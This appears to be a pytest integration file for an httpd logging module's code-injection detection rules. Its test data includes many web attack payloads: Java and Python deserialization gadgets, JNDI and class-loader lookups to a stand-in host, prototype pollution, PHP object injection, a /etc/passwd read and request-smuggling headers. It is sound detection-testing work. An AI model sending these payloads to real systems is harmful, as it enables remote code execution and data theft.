"""The code-injection classes of 56-code.rules against a real httpd with
the echo CGI application, in every place the module reads them: the query
(names and values), a cookie, a header, form, multipart and JSON bodies,
and the request-smuggling signs that httpd passes to the log hook (a
Transfer-Encoding other than "chunked", a framing header spelled with
'_', a chunked body's end then a request in a body). Java stack traces,
JSON APIs with "constructor"/"prototype"/"@type"/"$type" keys, base64
images and tokens, PHP session arrays and jsessionid URLs are not
recorded.

Run:  LW_BUILDDIR=/path/to/build LW_SRCDIR=/path/to/src \\
      /usr/bin/python3 -m pytest -q test/integration/test_code.py
"""
import socket
import urllib.parse

import pytest

import lwhttpd
from test_body import FORM, JSON, MP, multipart, post_attack
from test_body import cgi  # noqa: F401 (the fixture: a server with the echo CGI)


@pytest.fixture
def mpm():
    # Where a field is read does not depend on the MPM: one is enough.
    return "event"


def q(v):
    return urllib.parse.quote(v, safe="")


JAVA_B64 = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="
PHP_OBJ = 'O:10:"FileLogger":1:{s:4:"file";s:9:"shell.php";}'
PHP_B64 = "Tzo4OiJzdGRDbGFzcyI6MTp7czo0OiJyb2xlIjtzOjU6ImFkbWluIjt9"

# (marker, request-target after the marker, rule id, field)
QUERY_ATTACKS = [
    ("qjser", "&state=" + JAVA_B64, 560100, "args:state"),
    ("qjhex", "&blob=aced00057372000e6a6176612e6c616e672e4c6f6e67",
     560100, "args:blob"),
    ("qjraw", "&blob=%AC%ED%00%05%73%72%00%11java.util.HashMap", 560105,
     "uri"),
    ("qjrefl", "&x=" + q('Class.forName("X").getMethod("exec", '
                         'String.class).invoke(r, "id")'), 560200, "args:x"),
    ("qjndi", "&x=" + q('new InitialContext().lookup("ldap://203.0.113.9/o")'),
     560200, "args:x"),
    ("qfastjson", "&data=" + q('{"@type":"com.sun.rowset.JdbcRowSetImpl",'
                               '"dataSourceName":"rmi://203.0.113.9/x"}'),
     560210, "args:data"),
    ("qyaml", "&cfg=" + q("!!javax.script.ScriptEngineManager [!!java.net."
                          "URLClassLoader [[!!java.net.URL [\"http://"
                          "203.0.113.9/\"]]]]"), 560210, "args:cfg"),
    ("qproto", "&__proto__[isAdmin]=true", 560300, "arg_names"),
    ("qctor", "&a[constructor][prototype][admin]=1", 560300, "arg_names"),
    ("qprotojson", "&data=" + q('{"__proto__":{"isAdmin":true}}'), 560310,
     "args:data"),
    ("qnode", "&x=" + q("process.binding('spawn_sync')"), 560320, "args:x"),
    ("qphp", "&data=" + q(PHP_OBJ), 560400, "args:data"),
    ("qphpb64", "&data=" + PHP_B64, 560400, "args:data"),
    ("qfix", "&x=" + q('<meta http-equiv="Set-Cookie" content="PHPSESSID='
                       'fixed">'), 560500, "args:x"),
    ("qsplit", "&url=http://backend/%0d%0a%0d%0aGET%20/admin%20HTTP/1.1",
     560600, "uri"),
]


def rule_fields(rec):
    return [(r["id"], r["field"]) for r in rec["rules"]]


def hit(rec, rid, field):
    """rule rid on field (an exact label, or a label's kind before ':')."""
    return any(i == rid and (f == field or f.split(":", 1)[0] == field)
               for i, f in rule_fields(rec))


def test_query_attacks_recorded(cgi):
    for marker, rest, _, _ in QUERY_ATTACKS:
        st = cgi.get("/index.html?t=" + marker + rest)
        assert st in (200, 404), marker
    for marker, _, rid, field in QUERY_ATTACKS:
        rec = cgi.wait_for(lambda r: "t=" + marker + "&" in r["uri"])
        assert rec is not None, "no record for %s" % marker
        assert hit(rec, rid, field), (marker, rule_fields(rec))
        lwhttpd.check_record(rec)


# (marker, header name, value, rule id, field)
HEADER_ATTACKS = [
    ("hcookie", "Cookie", "lang=en; rememberMe=" + JAVA_B64, 560100,
     "cookie"),
    ("hcookiephp", "Cookie", "prefs=" + PHP_B64, 560400, "cookie"),
    ("hxsess", "X-Session", JAVA_B64, 560100, "header:X-Session"),
    ("hxjava", "X-Api-Filter",
     'new URLClassLoader(new URL[]{new URL("http://203.0.113.9/")})'
     '.loadClass("X").newInstance()', 560200, "header:X-Api-Filter"),
    ("hctype", "Content-Type", "application/x-java-serialized-object",
     560110, "header:Content-Type"),
]


def test_header_and_cookie_attacks_recorded(cgi):
    for marker, name, value, _, _ in HEADER_ATTACKS:
        st = cgi.get("/index.html?h=" + marker, headers=[(name, value)])
        assert st in (200, 404), marker
    for marker, name, value, rid, field in HEADER_ATTACKS:
        rec = cgi.wait_for(lambda r: "h=" + marker in r["uri"])
        assert rec is not None, "no record for %s: %s" % (name, value)
        assert hit(rec, rid, field), (marker, rule_fields(rec))


# (marker, content type, body, rule id, field)
BODY_ATTACKS = [
    ("fphp", FORM, b"name=bob&data=" + q(PHP_OBJ).encode(), 560400,
     "body:form:data"),
    ("fproto", FORM, b"user=bob&__proto__%5BisAdmin%5D=true", 560300,
     "body_names:form:__proto__[isAdmin]"),
    ("fctor", FORM, b"constructor%5Bprototype%5D%5Badmin%5D=1", 560300,
     "body_names:form:constructor[prototype][admin]"),
    ("jproto", JSON, b'{"user": "bob", "__proto__": {"isAdmin": true}}',
     560300, "body_names:json:$.__proto__"),
    ("jtype", JSON, b'{"@type": "com.sun.rowset.JdbcRowSetImpl", '
                    b'"dataSourceName": "ldap://203.0.113.9/x", '
                    b'"autoCommit": true}', 560215, "body:json:$.@type"),
    ("jser", JSON, b'{"viewState": "' + JAVA_B64.encode() + b'"}', 560100,
     "body:json:$.viewState"),
    ("jnode", JSON, b'{"expr": "require(\'fs\').readFileSync(\'/etc/passwd\')"}',
     560320, "body:json:$.expr"),
    ("jdotnet", JSON, b'{"$type": "System.Windows.Data.ObjectDataProvider, '
                      b'PresentationFramework", "MethodName": "Start"}',
     560220, "body:json:$.$type"),
    ("fpickle", FORM, b"obj=gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg"
                      b"%3D%3D", 560230, "body:form:obj"),
    ("jpickle", JSON, b'{"py/reduce": [{"py/function": "os.system"}, '
                      b'{"py/tuple": ["id"]}]}', 560230,
     "body_names:json:$.py/reduce"),
    ("mpproto", MP, multipart([(b"__proto__[admin]", b"1", None)]), 560300,
     "body_names:multipart:__proto__[admin]"),
    ("mpphp", MP, multipart([(b"payload", PHP_OBJ.encode(), None)]), 560400,
     "body:multipart:payload"),
    ("tsmuggle", "text/plain",
     b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n", 560610,
     "body:text"),
]


@pytest.mark.parametrize("marker,ctype,body,rid,field", BODY_ATTACKS,
                         ids=[a[0] for a in BODY_ATTACKS])
def test_body_attacks_recorded(cgi, marker, ctype, body, rid, field):
    rec = post_attack(cgi, marker, ctype, body)
    assert hit(rec, rid, field), (marker, rule_fields(rec))
    lwhttpd.check_record(rec)


def raw(h, data):
    s = socket.create_connection(("127.0.0.1", h.port), timeout=10)
    try:
        s.sendall(data)
        resp = lwhttpd.read_to_close(s)
    finally:
        s.close()
    return resp.split(b"\r\n", 1)[0]


# Transfer-Encoding values as a smuggler sends them, with httpd's answer:
# it refuses most with a 400 and logs them; "gzip, chunked" and two
# "chunked" headers (read as "chunked, chunked") it serves. Each reaches
# the log hook with the header as sent; a framing header named with '_'
# is passed on as an unknown header.
SMUGGLING = [
    ("tex", b"Transfer-Encoding: xchunked", 400, 560700),
    ("tecid", b"Transfer-Encoding: chunked, identity", 400, 560700),
    ("tequo", b'Transfer-Encoding: "chunked"', 400, 560700),
    ("tegz", b"Transfer-Encoding: gzip, chunked", 200, 560700),
    ("te2", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
     200, 560700),
    ("teund", b"Transfer_Encoding: chunked\r\nContent-Length: 5", 200,
     560710),
]


def test_smuggling_headers_recorded(cgi):
    for marker, head, status, _ in SMUGGLING:
        body = b"hello" if b"Content-Length" in head else b"0\r\n\r\n"
        line = raw(cgi, b"POST /index.html?s=" + marker.encode()
                   + b" HTTP/1.1\r\nHost: localhost\r\n" + head
                   + b"\r\nConnection: close\r\n\r\n" + body)
        assert line.startswith(b"HTTP/1.1 %d" % status), (marker, line)
    for marker, head, _, rid in SMUGGLING:
        rec = cgi.wait_for(lambda r: "s=" + marker in r["uri"])
        assert rec is not None, "no record for %s" % head
        assert rid in [r["id"] for r in rec["rules"]], (marker, rec["rules"])
    # a plain chunked upload is what clients send: not recorded
    st, _ = lwhttpd.http_post(cgi.port, "/cgi/echo?plainchunked=1",
                              [b"a=1&b=2"], FORM, chunked=True)
    assert st == 200
    st = cgi.get("/index.html?after=1", headers=[("X-Session", JAVA_B64)])
    assert cgi.wait_for(lambda r: "after=1" in r["uri"]) is not None
    assert not [r for r in cgi.records() if "plainchunked" in r["uri"]]


BENIGN_QUERY = [
    "trace=" + q("at java.lang.ClassLoader.defineClass(ClassLoader.java:756)"),
    "trace=" + q("at java.lang.Thread.run(Thread.java:748)"),
    "msg=" + q('Exception in thread "main" java.lang.ClassNotFoundException:'
               ' com.mysql.cj.jdbc.Driver'),
    "q=" + q("Runtime.getRuntime().availableProcessors() returns 1"),
    "q=" + q("what is __proto__ in javascript"),
    "q=" + q("javax.naming.NameNotFoundException"),
    "constructor=Ferrari&prototype=1",
    "img=" + q("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
               "YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="),
    "sess=" + q('a:2:{i:0;s:5:"apple";i:1;s:6:"banana";}'),
    "next=" + q("/shop/cart.jsp;jsessionid=6A1F2B3C4D5E6F708192A3B4C5D6E7F8"),
    "q=" + q("Set-Cookie header missing SameSite attribute"),
    "data=" + q('{"$type":"MyApp.Models.Order, MyApp","Id":12}'),
]

BENIGN_BODIES = [
    (JSON, b'{"constructor": {"name": "McLaren", "nationality": "British"},'
           b' "prototype": {"startNode": "1:2"}, "position": 1}'),
    (JSON, b'{"@context": "https://schema.org", "@type": "Product", '
           b'"name": "Java Coffee Beans", "brand": {"@type": "Brand"}}'),
    (FORM, b"subject=Crash&details=java.lang.NullPointerException%0D%0A%09at"
           b"+java.lang.reflect.Method.invoke(Method.java%3A498)%0D%0A%09at+"
           b"java.lang.ProcessBuilder.start(ProcessBuilder.java%3A1029)"),
    (JSON, b'{"token": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIx'
           b'MjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"}'),
    (FORM, b"session=" + q('user_id|i:7;username|s:5:"alice";').encode()),
    (JSON, b'{"$type": "MyApp.Models.Order, MyApp", "Id": 12, "Lines": '
           b'[{"$type": "MyApp.Models.Line, MyApp", "Sku": "A-1"}]}'),
    (FORM, b"token=gAAAAABlx3Kq0Gc1mN2yC3vZrP4o5bTTeXF6cK9gH1sYbQm4xJv8Ww2r"
           b"D6ZtqL0aEu7fSo9iN3kYpM1cB5hVgXRj&__VIEWSTATE=%2FwEPDwUKLTIxMjU0"
           b"NjA5OWRkZGQ7a4c5kxB1nZb6Yz3RuH9kTzA%3D"),
]


def test_benign_not_recorded(cgi):
    """Stack traces, JSON APIs, images, session arrays, jsessionid URLs:
    none is recorded; an attack after them is."""
    for i, qs in enumerate(BENIGN_QUERY):
        assert cgi.get("/index.html?benign=%d&%s" % (i, qs)) in (200, 404)
    for i, (ctype, body) in enumerate(BENIGN_BODIES):
        st, _ = cgi.post("/cgi/echo?benignbody=%d" % i, body, ctype)
        assert st == 200
    assert cgi.get("/index.html?after=1&x=" + JAVA_B64) == 200
    assert cgi.wait_for(lambda r: "after=1" in r["uri"]) is not None
    flagged = [(r["uri"], rule_fields(r)) for r in cgi.records()
               if "benign" in r["uri"]]
    assert not flagged, flagged
